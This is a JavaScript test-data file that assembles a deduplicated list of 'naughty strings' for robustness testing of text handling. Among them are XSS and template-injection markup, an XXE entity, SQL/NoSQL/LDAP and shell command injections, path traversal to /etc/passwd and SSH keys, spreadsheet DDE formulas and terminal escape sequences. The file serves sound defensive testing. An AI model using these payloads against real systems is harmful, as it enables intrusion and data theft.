// Texts that break programs: some five hundred of them, by kind, to be put wherever a file may hold a text.

/** One text a line. @param {string} text */
const lines = (text) => text.split('\n').filter((line) => line !== '');
/** Code points of a range, both ends included, each between two letters. @param {number} from @param {number} to */
const points = (from, to) =>
  Array.from({ length: to - from + 1 }, (_, i) => `a${String.fromCodePoint(from + i)}b`);
/** @param {string} base @param {number} marks how many stand above and below each letter */
const stacked = (base, marks) =>
  [...base]
    .map(
      (c, i) =>
        c +
        Array.from({ length: marks }, (_, k) => String.fromCodePoint(0x300 + ((i * 7 + k * 5) % 0x60))).join(
          '',
        ),
    )
    .join('');

const WORDS = lines(`
undefined
undef
null
NULL
(null)
nil
NIL
none
None
NaN
Infinity
-Infinity
true
false
TRUE
FALSE
yes
no
on
off
constructor
__proto__
prototype
hasOwnProperty
toString
valueOf
__defineGetter__
then
length
arguments
then
if
function
#NULL!
#N/A
#REF!
#DIV/0!
#VALUE!
#NAME?
N/A
n/a
-
--
—
/
\\
\\\\
.
..
*
?
合计
总计
小计
合计：
共 3 条
订单号
商品
CON
PRN
AUX
NUL
COM1
LPT9
`);

const NUMBERS = lines(`
0
1
-1
+1
1.00
$1.00
¥1.00
￥1,299.90
1/2
1E2
1E02
1E+02
-1E+02
1e-400
9e999
2.60531E+14
0/0
1/0
-2147483648
2147483648
-9223372036854775808
18446744073709551616
0.0
-0
-0.0
+0.0
0..0
.
0.0.0
0,00
0,,0
,
0,0,0
0.0/0
1.0/0.0
0.1e1.5
--1
-.
-.1
0x0
0xffffffff
0xdeadfee1
0b11
0o17
123456789012345678901234567890123456789
1,000.00
1 000.00
1'000.00
1,000,000.00
1 000 000.00
1.000,00
1'000,00
01000
08
09
2.2250738585072011e-308
1_000
１２３
⁰⁴⁵
₀₁₂
٠١٢٣
१२३
Ⅷ
一百二十三
壹佰元整
½
1.2万
3e
五折
2026-02-30
0000-00-00
24:00
60:61
46222.9028
1/2/3
3月4日
`);

const PUNCTUATION = lines(`
,./;'[]\\-=
<>?:"{}|_+
!@#$%^&*()\`~
'
"
''
""
'"'
"''''"'"
"'"'"''''"
\`
\`\`
;
;;
|
||
&
&&
%
%%
#
#合计：3笔
@
^
~
{}
[]
()
<>
</>
<!---->
,,,
;;;
\t
a,b
a;b
a|b
"a"
"a
a"
a"b
a""b
"a","b"
`);

const UNICODE = lines(`
∑∂ƒ≠∆ µ≤√∞
ñéèüçøåßæ
‘单’“双”–—…•
§¶†‡©®™£€
¿¡«»·¸˛˘
Съешь ещё чаю
荷物は玄関に置いてください
ラーメンを三つ
請勿按鈴
龜鬱鱻
문 앞에 놓아 주세요
뷁쀍쫗
臺灣繁體訂單
서울특별시
𠮷𡃁𢫏
𠀀𪚥𫝀
㐀䶵
Ⱥ
ȾȺ
ﬀﬁﬂﬃﬄ
ǅ
ß
ẞ
İ
ıI
ſ
K
Å
㎏㏑℃
①②③
㈱
ＡＢＣａｂｃ
ｶﾀｶﾅ
（全角）
ヽ(•̀ω•́ )ゝ
(｡･ω･｡)
ヾ(＠⌒ー⌒＠)ノ
_(:3」∠)_
(｀・ω・´)
✿◕ ‿ ◕✿
☆*:.｡.o(≧▽≦)o.｡.:*☆
┬─┬ ノ( ゜-゜ノ)
(づ｡◕‿‿◕｡)づ
¯\\_(ツ)_/¯
😍
👩🏽
👩‍🦳 👩🏻‍🦳
🛒 📦 🚚 🧾 💸
🐉 🐼 🧧
☎️ ✉️ ⚠️ ♥️
👍🏻 👎🏽 🤝🏾
👩‍👩‍👧 👨‍👧‍👧
🈶 🈚 🉐 ㊙️
#️⃣ *️⃣ 9️⃣
🇨🇳🇭🇰🇲
🇨🇳
🏴󠁧󠁢󠁥󠁮󠁧󠁿
👁️‍🗨️
اترك الطرد عند الباب
חֲבִילָה לַדֶּלֶת
חבילהorderطرد
﷽
ﷺ
طَرْدٌ كَبِيرٌ
جامعة طہران
فارسی
اردو
नमस्ते
தமிழ்
ไทยไทย
ᚠᚢᚦᚨᚱᚲ
ᠮᠣᠩᠭᠣᠯ
བོད་ཡིག
ɹǝpɹo uʍop ǝpᴉsdn
Ｔｅａ Ｃｕｐ
𝐓𝐞𝐚 𝐂𝐮𝐩
𝕋𝕖𝕒
𝒯ℯ𝒶
⒯⒠⒜
锟斤拷
烫烫烫
屯屯屯
鍙戣揣
璁㈠崟
Ã©Ã¼
â€œ
ï»¿
�
￾x
`);

const MARKUP = lines(`
<script>alert(1)</script>
&lt;script&gt;alert(2);&lt;/script&gt;
<img src=x onerror=alert(3)>
<svg><script>4<1>alert(4)</script>
"><script>alert(5)</script>
'><script>alert(6)</script>
><script>alert(7)</script>
</script><script>alert(8)</script>
< / script >< script >alert(9)< / script >
 onfocus=alert(10) autofocus
" onfocus=alert(11) autofocus
' onfocus=alert(12) autofocus
＜script＞alert(13)＜/script＞
<sc<script>ript>alert(14)</sc</script>ript>
--><script>alert(15)</script>
";alert(16);t="
';alert(17);t='
JavaScript:alert(18)
;alert(19);
src=JaVaSCript:prompt(20)
<a href="javascript:alert(21)">x</a>
<a href="data:text/html;base64,PHN2Zz4=">x</a>
<iframe src="javascript:alert(22)"></iframe>
<body onload=alert(23)>
<details open ontoggle=alert(24)>
<style>@import 'x';</style>
<link rel=stylesheet href=//a.invalid>
<meta http-equiv=refresh content=0>
<base href=//a.invalid>
<form action=//a.invalid><input name=x>
<math><mi xlink:href="javascript:alert(25)">
<!--[if gte IE 4]><script>alert(26)</script><![endif]-->
<![CDATA[<script>alert(27)</script>]]>
<?xml version="1.0"?>
<!ENTITY x SYSTEM "file:///etc/passwd">
<?php echo 1; ?>
<% out.print(1) %>
{{7*7}}
\${7*7}
#{7*7}
<%= 7*7 %>
{% raw %}
$\{jndi:ldap://a.invalid/x}
[x](javascript:alert(28))
![x](//a.invalid/y)
\`\`\`
&amp;
&#0;
&#x202e;
&nbsp;
%00
%0d%0aSet-Cookie:x=1
\\u0000
\\x1b[31m
`);

const INJECTIONS = lines(`
0;DROP TABLE bills
1'; DROP TABLE orders-- 1
' OR 1=1 -- 1
' OR '1'='1
'; EXEC xp_cmdshell('dir'); --
" OR ""="
%
_
admin'--
1 UNION SELECT 1
{"$gt": ""}
[$ne]=1
*)(uid=*))(|(uid=*
-
--
--version
--help
-o
--output=/tmp/x
$USER
$HOME
\${HOME}
%USERPROFILE%
/dev/null; touch /tmp/x ; echo
\`touch /tmp/x\`
$(touch /tmp/x)
@{[system "touch /tmp/x"]}
eval("1+1")
System("ls -al /")
Kernel.exec("ls")
Kernel.exit(1)
%x('ls')
| ls
&& ls
; ls
> /tmp/x
< /etc/passwd
../../../../etc/passwd
../../../../etc/passwd%00
..\\..\\windows\\system.ini
C:\\Windows\\System32
\\\\a.invalid\\share
file:///etc/passwd
/dev/zero
/proc/self/environ
~/.ssh/id_rsa
a/b
a:b
a\\b
desktop.ini
.htaccess
orders.csv
http://a.invalid/
https://例子.invalid/
//a.invalid
mailto:a@a.invalid
user@a.invalid
() { 0; }; touch /tmp/x;
() { _; } >_[$($())] { touch /tmp/x; }
%d
%s
%n
%s%s%s%s%s
%x%x%x
%*.*s
%@%@
%.1024d
{0}
{0.__class__}
%(x)s
:%s/x/y/g
0 0 * * *
a\\
a\\n
\\0
\\r\\n
`);

const FORMULAS = lines(`
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("http://a.invalid","x")
=IMPORTXML("http://a.invalid","//a")
=WEBSERVICE("http://a.invalid")
=DDE("cmd";"/C calc";"x")
=2+5+cmd|' /C calc'!A0
+1+1
+cmd|' /C calc'!A0
-1+1
-2+3+cmd|' /C calc'!A0
-cmd|' /C calc'!A0
@SUM(1+1)
@SUM(1+1)*cmd|' /C calc'!A0
＝1+1
＋1+1
－1+1
＠SUM(1)
 =1+1
　=1+1
"=1+1"
'=1+1
=
+
==1
=+1
=-1
=@x
=A1&B1
=IF(1,2,3)
={1,2}
="123"
=""
=#REF!
%=1
;=1
,=1
|=1
`);

/** Escapes and controls that a terminal would obey, and blanks of every sort. */
const CONTROLS = [
  ...points(0x00, 0x09),
  ...points(0x0b, 0x1f),
  ...points(0x7f, 0x9f),
  'a\nb',
  'a\rb',
  'a\r\nb',
  '\n',
  '\r\n=1+1',
  '\u001b[31mred',
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://a.invalid\u001b\\x\u001b]8;;\u001b\\',
  '\u001b[1A\u001b[2K',
  '\u001b[?1049h',
  '\u001b[6n',
  '\u001bc',
  '\u001bP+q544e\u001b\\',
  '\u001b_x\u001b\\',
  '\u001b]52;c;eA==\u0007',
  '\u009b31m',
  '\u009d0;title\u009c',
  'overwritten\rshown',
  'a\u0008\u0008b',
  '\u0007\u0007\u0007',
];

const BLANKS = [
  '',
  ' ',
  '  ',
  ' a',
  'a ',
  ' a ',
  '\t',
  'a\t',
  '\ta',
  '\u0020\u00a0\u1680',
  ...points(0x2000, 0x200f),
  ...points(0x2028, 0x202f),
  ...points(0x205f, 0x2064),
  ...points(0x2066, 0x206f),
  'a\u00a0b',
  'a\u00adb',
  'a\u034fb',
  'a\u061cb',
  'a\u115fb',
  'a\u17b4b',
  'a\u180eb',
  'a\u3000b',
  'a\u3164b',
  'a\ufeffb',
  '\ufeffa',
  'a\uffa0b',
  'a\ufff9b\ufffac\ufffb',
  'a\u{e0001}b',
  'a\u{e0041}b',
  '\u202egnp.exe',
  '\u202d\u202etest\u202c',
  '\u2066test\u2067x\u2069',
  '\u200ftest\u200e',
  'test\u2060test\u202b',
  'a\ufffeb',
  'a\uffffb',
  'a\ue000b',
  'a\u{10ffff}b',
];

const COMBINED = [
  stacked('Z̷algo', 8),
  stacked('先用后付', 20),
  stacked('a', 300),
  'e\u0301',
  '\u00e9',
  '\u0301',
  '\u1100\u1161\u11a8',
  'क्षि',
  'ด้้้้้็็็็็้้้้้็็็็็',
  '\u{1d165}\u{1d16e}',
  'a'.repeat(5000),
  '长'.repeat(3000),
  '"'.repeat(99),
  ','.repeat(300),
  '😀'.repeat(500),
  `${'('.repeat(2000)}a`,
  `${'a'.repeat(1500)}!`,
  `${' '.repeat(2000)}x`,
  '1'.repeat(4000),
  'ＬＴＲ\u202eＲＴＬ\u202c',
];

/** Each text is different from every other. */
export const NAUGHTY = /** @type {readonly string[]} */ ([
  ...new Set([
    ...WORDS,
    ...NUMBERS,
    ...PUNCTUATION,
    ...UNICODE,
    ...MARKUP,
    ...INJECTIONS,
    ...FORMULAS,
    ...CONTROLS,
    ...BLANKS,
    ...COMBINED,
  ]),
]);
